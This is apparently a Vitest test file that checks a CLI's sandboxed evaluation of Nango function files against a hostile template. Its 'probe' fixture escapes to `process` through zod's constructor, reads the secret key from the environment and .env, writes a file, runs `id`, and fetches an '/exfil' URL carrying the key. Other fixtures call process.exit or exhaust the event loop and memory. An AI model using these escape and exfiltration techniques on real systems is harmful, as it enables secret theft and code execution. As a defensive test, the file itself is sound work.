/**
 * Function files are evaluated at compile and deploy time (to read their definitions) inside the
 * locked-down evaluation worker, never in the CLI's process. The attempts a hostile template made
 * on the built CLI, reproduced: reaching `process` through zod's constructor during `deploy` to
 * read the key (environment and .env), send it out, write a file and run `id`; a top-level
 * `process.exit(0)`; an async loop; a promise chain that eats the heap.
 */
import { existsSync } from 'node:fs';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT, makeTempDir, runFerry } from '../support/cli.js';
import { createDeployRoutes, type FakeDeployState } from '../support/fake-platform-deploy.js';
import { startFakePlatform, type FakePlatform } from '../support/fake-platform.js';

const SECRET_KEY = 'sk-test-evaluation-1f2e3d4c5b6a7988';

const action = (name: string, topLevel: string, description = `'${name}'`): string => `import { createAction } from 'nango';
import * as z from 'zod';
${topLevel}
export default createAction({
    description: ${description},
    input: z.object({ a: z.string() }),
    output: z.object({ b: z.string() }),
    exec: async (_nango, input) => ({ b: input.a })
});
`;

/** Every capability the original attempt used, each tried on its own and its outcome kept. */
const probe = (platformUrl: string): string =>
    action(
        'probe',
        `const found: Record<string, unknown> = {};
const attempt = (name: string, fn: () => unknown): void => {
    try {
        found[name] = fn();
    } catch (error) {
        found[name] = 'refused';
    }
};
const F = (z.object as any).constructor;
const proc = F('return process')();
attempt('envKey', () => proc.env.NANGO_SECRET_KEY_DEV ?? 'none');
attempt('envCount', () => Object.keys(proc.env).length);
attempt('dotenv', () => proc.getBuiltinModule('fs').readFileSync('.env', 'utf8'));
attempt('loadEnvFile', () => (proc.loadEnvFile('.env'), proc.env.NANGO_SECRET_KEY_DEV ?? 'none'));
attempt('write', () => proc.getBuiltinModule('fs').writeFileSync('pwned.txt', 'x'));
attempt('id', () => proc.getBuiltinModule('child_process').execSync('id').toString());
attempt('binding', () => typeof proc.binding('fs'));
attempt('fetch', () => (F('u', 'return fetch(u)')('${platformUrl}/exfil?k=' + String(found.envKey)), 'sent'));`,
        `'probe ' + JSON.stringify(found)`
    );

describe('evaluating function files at compile and deploy time', () => {
    let dir: string;
    let cleanup: () => Promise<void>;
    let platform: FakePlatform;
    let state: FakeDeployState;

    beforeAll(async () => {
        ({ dir, cleanup } = await makeTempDir('ferry-evaluation-'));
        const deploy = createDeployRoutes();
        state = deploy.state;
        platform = await startFakePlatform({ secretKey: SECRET_KEY, extraRoutes: [deploy.handler] });
        for (const folder of ['.nango', 'demo/actions', 'node_modules']) await mkdir(join(dir, folder), { recursive: true });
        await symlink(join(REPO_ROOT, 'node_modules/zod'), join(dir, 'node_modules/zod'), 'dir');
        await writeFile(join(dir, '.env'), `NANGO_SECRET_KEY_DEV=${SECRET_KEY}\nNANGO_HOSTPORT=${platform.url}\n`);
    });
    afterAll(async () => {
        await platform?.close();
        await cleanup?.();
    });

    const write = (rel: string, content: string): Promise<void> => writeFile(join(dir, rel), content);
    const index = (names: string[]): Promise<void> => write('index.ts', names.map((n) => `import './demo/actions/${n}.js';\n`).join(''));

    it("deploys a file that reaches for process through zod's constructor: it finds no key, no files, no processes, no network", async () => {
        await write('demo/actions/probe.ts', probe(platform.url));
        await index(['probe']);
        const result = await runFerry(['deploy'], { cwd: dir, env: { NANGO_SECRET_KEY_DEV: SECRET_KEY, NANGO_HOSTPORT: platform.url } });
        expect(result.code).toBe(0);
        const sent = state.deploys.at(-1)!.flowConfigs.find((f) => f.syncName === 'probe')!;
        const description = (sent as unknown as { metadata: { description: string } }).metadata.description;
        const found = JSON.parse(description.slice('probe '.length)) as Record<string, unknown>;
        expect(found).toEqual({ envKey: 'none', envCount: 0, dotenv: 'refused', loadEnvFile: 'refused', write: 'refused', id: 'refused', binding: 'refused', fetch: 'refused' });
        expect(platform.requests.some((r) => r.path.includes('exfil'))).toBe(false);
        expect(existsSync(join(dir, 'pwned.txt'))).toBe(false);
        expect(JSON.stringify(state.deploys)).not.toContain(SECRET_KEY);
        expect(`${result.stdout}${result.stderr}`).not.toContain(SECRET_KEY);
    });

    it('reports process.exit, an async loop and a promise chain as EVALUATION_ERRORs of their files, and compiles the rest', async () => {
        await write('demo/actions/quits.ts', action('quits', "(z.object as any).constructor('return process')().exit(0);"));
        await write('demo/actions/spins.ts', action('spins', 'async function spin(): Promise<void> { for (;;) await null; }\nvoid spin();'));
        await write('demo/actions/chain.ts', action('chain', '(function f(): void { Promise.resolve().then(f); Promise.resolve().then(f); })();'));
        await write('demo/actions/fine.ts', action('fine', ''));
        await index(['quits', 'spins', 'chain', 'fine']);
        const result = await runFerry(['compile', '--json', '--no-typecheck'], { cwd: dir, timeoutMs: 120_000 });
        expect(result.signal).toBeNull();
        // Compile's own failure (10), neither 0 (the process ended by the function) nor 134 (V8's abort).
        expect(result.code).toBe(10);
        const doc = JSON.parse(result.stdout) as { ok: boolean; errors: { code: string; message: string; function?: string }[] };
        expect(doc.ok).toBe(false);
        const byFunction = new Map(doc.errors.map((e) => [e.function, e]));
        expect([...byFunction.keys()].sort()).toEqual(['demo/chain', 'demo/quits', 'demo/spins']);
        for (const error of doc.errors) expect(error.code).toBe('EVALUATION_ERROR');
        expect(byFunction.get('demo/quits')!.message).toBe(
            'its top-level code called process.exit(0); a function file must never end the process: remove the call. Top-level code runs at compile and deploy time: move side effects into exec'
        );
        expect(byFunction.get('demo/spins')!.message).toMatch(/^its top-level code did not finish within 5 s and was stopped/);
        expect(byFunction.get('demo/chain')!.message).toMatch(/^its top-level code (ran out of memory \(the limit is 512 MB\)|did not finish within 5 s) and was stopped/);
        expect(existsSync(join(dir, 'build', 'demo_actions_fine.cjs'))).toBe(false);
    }, 120_000);
});
